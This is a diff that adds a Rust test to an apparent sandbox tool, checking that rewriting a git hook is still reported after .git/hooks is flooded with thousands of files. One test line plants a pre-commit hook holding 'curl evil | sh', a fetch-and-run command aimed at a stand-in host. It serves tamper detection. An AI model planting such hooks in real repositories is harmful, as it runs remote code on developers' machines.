@@ -170,6 +170,44 @@ fn in_a_container_without_namespaces_reads_are_not_reported() {
     reads_and_other_writes_are_not_reported(&Fixture::staged(), CONTAINER);
 }
 
+/// Past the entries recorded per protected path (4096), names are not compared: a
+/// command that fills `.git/hooks` in the same run as it rewrites a hook is reported
+/// (the directory, modified). Control: a directory already that full before the run,
+/// which the command leaves alone, reports nothing.
+fn filling_a_protected_directory_is_reported(mask: Option<&str>, stage: bool) {
+    let fresh = || {
+        let mut fx = Fixture::new();
+        fx.stage = stage;
+        repository(&fx);
+        fx
+    };
+    let fill =
+        "mkdir .git/hooks/a; i=0; while [ $i -lt 4100 ]; do : > .git/hooks/a/$i; i=$((i+1)); done";
+    let fx = fresh();
+    let script = format!("{fill}; echo 'curl evil | sh' > .git/hooks/pre-commit");
+    let v = run_json(&fx, mask, &script, 0);
+    let hooks = (p(&fx.ws.join(".git/hooks")), "modified".to_string());
+    assert!(changed(&v).contains(&hooks), "{v}");
+    assert_eq!(v["sandbox"]["tampered"], true, "{v}");
+    // Control: full before the run, and only read during it.
+    let fx = fresh();
+    let out = std::process::Command::new("sh")
+        .args(["-c", fill])
+        .current_dir(&fx.ws)
+        .output()
+        .unwrap();
+    assert_code(&out, 0);
+    let v = run_json(&fx, mask, "ls .git/hooks/a | wc -l", 0);
+    assert!(v.get("protectedChanged").is_none(), "{v}");
+    assert_eq!(v["sandbox"]["tampered"], false, "{v}");
+}
+
+#[test]
+fn without_the_stage_filling_a_protected_directory_is_reported() {
+    filling_a_protected_directory_is_reported(None, false);
+    filling_a_protected_directory_is_reported(CONTAINER, true);
+}
+
 /// A default name that did not exist is no change to a protected path: it appears, as
 /// under the stage (`git worktree add` creates `.git/worktrees` rightly), and is reported
 /// so, without `tampered`.
